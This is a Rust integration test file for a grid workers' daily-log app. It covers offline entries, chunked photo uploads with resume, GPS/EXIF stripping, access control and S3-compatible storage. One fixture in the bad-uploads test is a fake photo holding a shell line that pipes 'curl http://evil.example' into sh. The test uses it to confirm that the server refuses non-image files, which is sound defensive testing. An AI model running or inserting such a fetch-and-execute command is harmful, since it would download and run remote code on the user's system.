//! Grid workers' daily logs and their photos, over real HTTP: an entry written offline with a
//! photo that is pending on every phone until its bytes arrive in chunks, stripped of its
//! GPS; who sees it (through the sync feed, the month's view and the photo's reads); each bad
//! upload's code with nothing lost; and the same photos kept in an S3-compatible store.

use std::io::Cursor;

use bytes::Bytes;
use image::RgbImage;
use img_parts::{ImageEXIF, jpeg::Jpeg};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use uuid::Uuid;

use crate::helpers::{Resident, TestApp, assert_problem, spawn_app_with};
use crate::phone::{Phone, assert_all_applied};
use crate::territory::{Village, applied, refused};

/// A phone photo of `w` × `h` noisy pixels (so it does not compress to nothing), with EXIF
/// naming the phone and the flat's GPS position.
pub fn phone_photo(w: u32, h: u32, seed: u32) -> Vec<u8> {
    let mut x = seed.wrapping_mul(2_654_435_761).max(1);
    let picture = RgbImage::from_fn(w, h, |_, _| {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        image::Rgb([x as u8, (x >> 8) as u8, (x >> 16) as u8])
    });
    let mut plain = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut plain, 95)
        .encode_image(&picture)
        .unwrap();
    use exif::{Field, In, Rational, Tag, Value as V};
    let fields = [
        Field {
            tag: Tag::Model,
            ifd_num: In::PRIMARY,
            value: V::Ascii(vec![b"SECRET-PHONE".to_vec()]),
        },
        Field {
            tag: Tag::GPSLatitude,
            ifd_num: In::PRIMARY,
            value: V::Rational(vec![
                Rational { num: 35, denom: 1 },
                Rational { num: 24, denom: 1 },
                Rational {
                    num: 1234,
                    denom: 100,
                },
            ]),
        },
    ];
    let mut writer = exif::experimental::Writer::new();
    for f in &fields {
        writer.push_field(f);
    }
    let mut exif = Cursor::new(Vec::new());
    writer.write(&mut exif, false).unwrap();
    let mut jpeg = Jpeg::from_bytes(Bytes::from(plain)).unwrap();
    jpeg.set_exif(Some(Bytes::from(exif.into_inner())));
    let mut out = Vec::new();
    jpeg.encoder().write_to(&mut out).unwrap();
    out
}

pub fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

pub fn declared(id: Uuid, bytes: &[u8]) -> Value {
    json!({"id": id, "sha256": sha256(bytes), "size": bytes.len()})
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

pub async fn put_chunk(
    app: &TestApp,
    who: &Resident,
    id: Uuid,
    bytes: &[u8],
    range: Option<(usize, usize)>,
) -> reqwest::Response {
    let (body, header) = match range {
        Some((start, end)) => (
            bytes[start..end].to_vec(),
            Some(format!("bytes {start}-{}/{}", end - 1, bytes.len())),
        ),
        None => (bytes.to_vec(), None),
    };
    let mut req = app
        .client
        .put(app.url(&format!("/api/v1/attachments/{id}")))
        .bearer_auth(&who.access_token)
        .header("content-type", "application/octet-stream")
        .body(body);
    if let Some(h) = header {
        req = req.header("content-range", h);
    }
    req.send().await.unwrap()
}

/// Uploads `bytes` in chunks of `chunk`, asserting each answer; the last answer's body.
pub async fn upload(app: &TestApp, who: &Resident, id: Uuid, bytes: &[u8], chunk: usize) -> Value {
    let mut start = 0;
    loop {
        let end = (start + chunk).min(bytes.len());
        let resp = put_chunk(app, who, id, bytes, Some((start, end))).await;
        assert_eq!(resp.status(), 200);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body["received"], end, "{body}");
        if end == bytes.len() {
            return body;
        }
        assert_eq!(body["photo"]["state"], "pending");
        start = end;
    }
}

fn entry(id: Uuid, v: &Village, photos: Vec<Value>) -> Value {
    json!({
        "id": id, "cell_id": v.cell, "day": today(), "building_id": v.b1, "staircase": "2單元",
        "place": "8號樓樓梯口", "hat": "property", "found": "樓梯口有一堆垃圾",
        "done": "已清理", "home_visit": false, "status": "closed", "photos": photos,
    })
}

fn today() -> String {
    chrono::Utc::now()
        .with_timezone(&chrono_tz::Asia::Shanghai)
        .date_naive()
        .to_string()
}

async fn log_entries(phone: &mut Phone) -> usize {
    phone.pull().await;
    phone.count("log_entry")
}

#[tokio::test]
async fn a_round_logged_offline_syncs_its_photo_when_the_data_allows_and_only_the_cell_sees_it() {
    let v = Village::new().await;
    let app = &v.app;
    let mut worker = v.phone(&v.grid_worker);
    // Offline at the staircase: the entry and the photo's id and hash, queued.
    let photo = phone_photo(900, 700, 1);
    assert!(photo.len() > 1024 * 1024, "a photo larger than one request");
    let photo_id = Uuid::now_v7();
    let id = Uuid::now_v7();
    let home_visit = Uuid::now_v7();
    worker.mutate("log.write", entry(id, &v, vec![declared(photo_id, &photo)]));
    let mut visit = entry(home_visit, &v, vec![]);
    visit["hat"] = json!("helper");
    visit["found"] = json!("獨居老人王奶奶行動不便，需要送菜");
    visit["home_visit"] = json!(true);
    visit["status"] = json!("follow_up");
    worker.mutate("log.write", visit);
    let out = worker.push().await;
    assert_all_applied(&out);
    assert_eq!(
        out["results"][0]["data"]["data"]["photos"][0]["state"],
        "pending"
    );

    // Seen by the worker, the president and admins; not by the building's or area's
    // leaders, the mediator or a neighbour.
    let neighbour = app.resident("13912340000", "鄰居").await;
    assert_eq!(log_entries(&mut worker).await, 2);
    let mut president = v.phone(&v.president);
    assert_eq!(log_entries(&mut president).await, 2);
    for who in [&v.building_leader, &v.area_leader, &v.mediator, &neighbour] {
        assert_eq!(log_entries(&mut v.phone(who)).await, 0, "{}", who.phone);
    }
    let pending = president.get("log_entry", id).unwrap();
    assert_eq!(pending["photos"][0]["state"], "pending");
    assert_eq!(pending["worker_name"], "網格員");

    // The photo's record: for those who see the entry; nobody else learns it exists.
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}"),
            Some(&v.president.access_token),
        )
        .await;
    assert_eq!(resp.status(), 200);
    let view: Value = resp.json().await.unwrap();
    assert_eq!(
        (view["received"].clone(), view["photo"]["state"].clone()),
        (json!(0), json!("pending"))
    );
    for who in [&neighbour, &v.building_leader] {
        let resp = app
            .get(
                &format!("/api/v1/attachments/{photo_id}"),
                Some(&who.access_token),
            )
            .await;
        assert_problem(resp, 404, "attachment_undeclared").await;
        // Nor may they send its bytes.
        let resp = put_chunk(app, who, photo_id, &photo, Some((0, 1000))).await;
        assert_problem(resp, 404, "attachment_undeclared").await;
    }
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}/content"),
            Some(&v.president.access_token),
        )
        .await;
    assert_problem(resp, 409, "attachment_pending").await;

    // Patchy data: the first chunk arrives, the link drops, a later chunk is sent too soon.
    let chunk = 512 * 1024;
    let resp = put_chunk(app, &v.grid_worker, photo_id, &photo, Some((0, chunk))).await;
    assert_eq!(resp.status(), 200);
    let resp = put_chunk(
        app,
        &v.grid_worker,
        photo_id,
        &photo,
        Some((2 * chunk, photo.len())),
    )
    .await;
    let problem = assert_problem(resp, 409, "upload_offset").await;
    assert_eq!(problem["resume_from"], chunk);
    // The phone asks where it stands, re-sends the first chunk (its answer was lost), and
    // goes on from there.
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}"),
            Some(&v.grid_worker.access_token),
        )
        .await;
    let view: Value = resp.json().await.unwrap();
    assert_eq!(view["received"], chunk);
    let resp = put_chunk(app, &v.grid_worker, photo_id, &photo, Some((0, chunk))).await;
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["received"], chunk);
    let rest = &photo[chunk..];
    let mut start = chunk;
    let mut last = Value::Null;
    while start < photo.len() {
        let end = (start + chunk).min(photo.len());
        let resp = put_chunk(app, &v.grid_worker, photo_id, &photo, Some((start, end))).await;
        assert_eq!(resp.status(), 200);
        last = resp.json().await.unwrap();
        start = end;
    }
    assert!(!rest.is_empty());
    assert_eq!(last["photo"]["state"], "ready", "{last}");
    assert_eq!(last["photo"]["content_type"], "image/jpeg");
    assert_eq!(
        (
            last["photo"]["width"].clone(),
            last["photo"]["height"].clone()
        ),
        (json!(900), json!(700))
    );
    // Sending it all again is harmless.
    let resp = put_chunk(app, &v.grid_worker, photo_id, &photo, Some((0, chunk))).await;
    let again: Value = resp.json().await.unwrap();
    assert_eq!(again["photo"]["state"], "ready");
    assert_eq!(again["received"], photo.len());

    // Phones already at the head learn the photo is ready on their next pull.
    president.pull().await;
    assert_eq!(
        president.get("log_entry", id).unwrap()["photos"][0]["state"],
        "ready"
    );
    worker.pull().await;
    assert_eq!(
        worker.get("log_entry", id).unwrap()["photos"][0]["state"],
        "ready"
    );

    // The stored photo has no GPS and no phone model; the thumbnail is small.
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}/content"),
            Some(&v.president.access_token),
        )
        .await;
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["content-type"], "image/jpeg");
    let stored = resp.bytes().await.unwrap();
    assert!(contains(&photo, b"SECRET-PHONE"));
    assert!(!contains(&stored, b"SECRET-PHONE"));
    assert!(
        exif::Reader::new()
            .read_from_container(&mut Cursor::new(&stored))
            .is_err(),
        "no EXIF at all: the photo was upright"
    );
    let shown = image::load_from_memory(&stored).unwrap();
    assert_eq!((shown.width(), shown.height()), (900, 700));
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}/content?thumbnail=true"),
            Some(&v.grid_worker.access_token),
        )
        .await;
    let thumb = image::load_from_memory(&resp.bytes().await.unwrap()).unwrap();
    assert_eq!((thumb.width(), thumb.height()), (320, 249));
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}/content"),
            Some(&neighbour.access_token),
        )
        .await;
    assert_problem(resp, 404, "attachment_undeclared").await;

    // The month's view, by cell and by worker, with the home visit counted; a neighbour's
    // view of the cell lists nothing.
    let month = &today()[..7];
    for path in [
        format!("/api/v1/grid/log?cell_id={}&month={month}", v.cell),
        format!(
            "/api/v1/grid/log?worker_id={}&month={month}",
            v.grid_worker.id
        ),
    ] {
        let resp = app.get(&path, Some(&v.president.access_token)).await;
        assert_eq!(resp.status(), 200);
        let m: Value = resp.json().await.unwrap();
        assert_eq!(
            (
                m["entry_count"].clone(),
                m["home_visits"].clone(),
                m["follow_ups"].clone(),
                m["closed_on_the_spot"].clone()
            ),
            (json!(2), json!(1), json!(1), json!(1)),
            "{m}"
        );
    }
    let resp = app
        .get("/api/v1/grid/log", Some(&v.grid_worker.access_token))
        .await;
    let mine: Value = resp.json().await.unwrap();
    assert_eq!(mine["entry_count"], 2, "{mine}");
    let resp = app
        .get(
            &format!("/api/v1/grid/log?cell_id={}", v.cell),
            Some(&neighbour.access_token),
        )
        .await;
    let m: Value = resp.json().await.unwrap();
    assert_eq!(m["entry_count"], 0);
    let resp = app
        .get(
            "/api/v1/grid/log?month=2026-13",
            Some(&v.president.access_token),
        )
        .await;
    assert_problem(resp, 400, "malformed_request").await;

    // The worker's export lists the entries and the photo uploaded.
    let resp = app
        .get("/api/v1/me/export", Some(&v.grid_worker.access_token))
        .await;
    let export: Value = resp.json().await.unwrap();
    assert_eq!(export["grid"]["log_entries"].as_array().unwrap().len(), 2);
    assert_eq!(export["grid"]["photos_uploaded"][0]["id"], json!(photo_id));
}

#[tokio::test]
async fn bad_entries_and_bad_uploads_get_a_clear_code_and_lose_nothing() {
    let v = Village::on(spawn_app_with(|s| s.attachments.max_bytes = 300_000).await).await;
    let app = &v.app;
    let mut worker = v.phone(&v.grid_worker);
    let w = &v.grid_worker;

    // Only the cell's grid worker writes its log; a day ahead, a building of another cell,
    // ten photos: each refused with its code.
    let mut leader = v.phone(&v.building_leader);
    refused(
        &mut leader,
        "log.write",
        entry(Uuid::now_v7(), &v, vec![]),
        "forbidden",
    )
    .await;
    let mut ahead = entry(Uuid::now_v7(), &v, vec![]);
    ahead["day"] = json!("2099-01-01");
    let r = refused(&mut worker, "log.write", ahead, "validation_failed").await;
    assert!(r["message"].as_str().unwrap().contains("day"), "{r}");
    let mut elsewhere = entry(Uuid::now_v7(), &v, vec![]);
    elsewhere["building_id"] = json!(v.b2);
    refused(&mut worker, "log.write", elsewhere, "validation_failed").await;
    let ten: Vec<Value> = (0..10)
        .map(|i| declared(Uuid::now_v7(), format!("{i}").as_bytes()))
        .collect();
    refused(
        &mut worker,
        "log.write",
        entry(Uuid::now_v7(), &v, ten),
        "validation_failed",
    )
    .await;

    // One entry with four photos: a script named .jpg, one whose bytes get garbled, one too
    // large, one fine.
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec();
    let good = phone_photo(200, 150, 7);
    let big_id = Uuid::now_v7();
    let (script_id, garbled_id, good_id) = (Uuid::now_v7(), Uuid::now_v7(), Uuid::now_v7());
    let id = Uuid::now_v7();
    let photos = vec![
        declared(script_id, &script),
        declared(garbled_id, &good),
        json!({"id": big_id, "sha256": sha256(b"big"), "size": 400_000}),
        declared(good_id, &good),
    ];
    applied(&mut worker, "log.write", entry(id, &v, photos)).await;

    let resp = put_chunk(app, w, script_id, &script, None).await;
    assert_problem(resp, 415, "unsupported_image").await;
    // Refused for good, and said so to every phone that sees the entry.
    let resp = put_chunk(app, w, script_id, &script, None).await;
    assert_problem(resp, 415, "unsupported_image").await;

    let mut garbled = good.clone();
    let middle = garbled.len() / 2;
    garbled[middle] ^= 0xFF;
    let resp = put_chunk(app, w, garbled_id, &garbled, None).await;
    assert_problem(resp, 422, "hash_mismatch").await;
    // Nothing of it was kept: the upload starts over, and the right bytes are taken.
    let resp = app
        .get(
            &format!("/api/v1/attachments/{garbled_id}"),
            Some(&w.access_token),
        )
        .await;
    let view: Value = resp.json().await.unwrap();
    assert_eq!(
        (view["received"].clone(), view["photo"]["state"].clone()),
        (json!(0), json!("pending"))
    );
    let body = upload(app, w, garbled_id, &good, 100_000).await;
    assert_eq!(body["photo"]["state"], "ready");

    let resp = put_chunk(app, w, big_id, &[0; 100], Some((0, 100))).await;
    assert_problem(resp, 413, "attachment_too_large").await;
    // Refused for good: sent again, the answer comes from the refusal recorded with it.
    let resp = put_chunk(app, w, big_id, &[0; 100], Some((0, 100))).await;
    assert_problem(resp, 413, "attachment_too_large").await;

    // Bytes for a photo nobody declared; a range that is not one; a size other than declared.
    let resp = put_chunk(app, w, Uuid::now_v7(), &good, None).await;
    assert_problem(resp, 404, "attachment_undeclared").await;
    let resp = app
        .client
        .put(app.url(&format!("/api/v1/attachments/{good_id}")))
        .bearer_auth(&w.access_token)
        .header("content-type", "application/octet-stream")
        .header("content-range", "bytes 0-9/oops")
        .body(good[..10].to_vec())
        .send()
        .await
        .unwrap();
    assert_problem(resp, 422, "validation_failed").await;
    let resp = put_chunk(app, w, good_id, &good[..good.len() - 1], None).await;
    assert_problem(resp, 422, "hash_mismatch").await;
    let body = upload(app, w, good_id, &good, 64 * 1024).await;
    assert_eq!(body["photo"]["state"], "ready");

    // The entry as every phone sees it: each photo's state, the refusals with their reason.
    let mut president = v.phone(&v.president);
    president.pull().await;
    let row = president.get("log_entry", id).unwrap();
    let states: Vec<&str> = row["photos"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["state"].as_str().unwrap())
        .collect();
    assert_eq!(states, ["refused", "ready", "refused", "ready"], "{row}");
    assert!(
        row["photos"][0]["refusal"]
            .as_str()
            .unwrap()
            .contains("JPEG")
    );
    assert!(
        row["photos"][2]["refusal"]
            .as_str()
            .unwrap()
            .contains("too large")
    );

    // Written again (the worker's phone re-sends an edit with one more photo): the text
    // changes, the photos stay and grow, none is counted twice.
    let extra = Uuid::now_v7();
    let mut edit = entry(
        id,
        &v,
        vec![declared(good_id, &good), declared(extra, &good)],
    );
    edit["done"] = json!("已清理，並通知物業");
    let r = applied(&mut worker, "log.write", edit).await;
    assert_eq!(r["data"]["data"]["done"], "已清理，並通知物業");
    assert_eq!(r["data"]["data"]["photos"].as_array().unwrap().len(), 5);
    // Someone else's entry id is not theirs to write.
    let mut president_phone = v.phone(&v.president);
    refused(
        &mut president_phone,
        "log.write",
        entry(id, &v, vec![]),
        "conflict",
    )
    .await;
}

/// Finds moto's S3 server, which `.ci/run` installs (`pip install "moto[server]"`).
fn moto_server() -> std::path::PathBuf {
    let candidates = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).collect::<Vec<_>>())
        .unwrap_or_default();
    candidates
        .into_iter()
        .map(|d| d.join("moto_server"))
        .find(|p| p.exists())
        .expect("moto_server is not installed: python3 -m pip install 'moto[server]'")
}

/// Photos kept in an S3-compatible store: moto's server speaks the S3 REST protocol (signed
/// requests, listing, ranged reads) as AWS does, so the `object_store` client under test
/// makes the very requests it would make to AWS, OSS or MinIO; it keeps objects in memory,
/// which is all a test needs of it.
#[tokio::test]
async fn photos_are_kept_in_an_s3_compatible_store() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut moto = tokio::process::Command::new(moto_server())
        .args(["-H", "127.0.0.1", "-p", &port.to_string()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    let deadline = tokio::time::Instant::now() + crate::helpers::DEADLINE;
    // Poll until it answers, then make the bucket.
    loop {
        if let Ok(r) = client.put(format!("{base}/linli-photos")).send().await
            && r.status().is_success()
        {
            break;
        }
        assert!(tokio::time::Instant::now() < deadline, "moto did not start");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let url = format!(
        "s3://linli-photos?endpoint={base}&allow_http=true&region=us-east-1&access_key_id=test&secret_access_key=test"
    );
    let v = Village::on(spawn_app_with(|s| s.attachments.url = Some(url)).await).await;
    let app = &v.app;
    let mut worker = v.phone(&v.grid_worker);
    let photo = phone_photo(640, 480, 3);
    let (id, photo_id) = (Uuid::now_v7(), Uuid::now_v7());
    applied(
        &mut worker,
        "log.write",
        entry(id, &v, vec![declared(photo_id, &photo)]),
    )
    .await;
    let body = upload(app, &v.grid_worker, photo_id, &photo, 40_000).await;
    assert_eq!(body["photo"]["state"], "ready", "{body}");
    let resp = app
        .get(
            &format!("/api/v1/attachments/{photo_id}/content"),
            Some(&v.president.access_token),
        )
        .await;
    assert_eq!(resp.status(), 200);
    let stored = resp.bytes().await.unwrap();
    assert!(!contains(&stored, b"SECRET-PHONE"));
    // In the bucket: the photo and its thumbnail, and no chunk left behind.
    let listing = client
        .get(format!("{base}/linli-photos?list-type=2"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        listing.contains(&format!("<Key>photos/{photo_id}</Key>")),
        "{listing}"
    );
    assert!(
        listing.contains(&format!("<Key>thumbnails/{photo_id}</Key>")),
        "{listing}"
    );
    assert!(!listing.contains("uploads/"), "{listing}");
    moto.kill().await.unwrap();
}
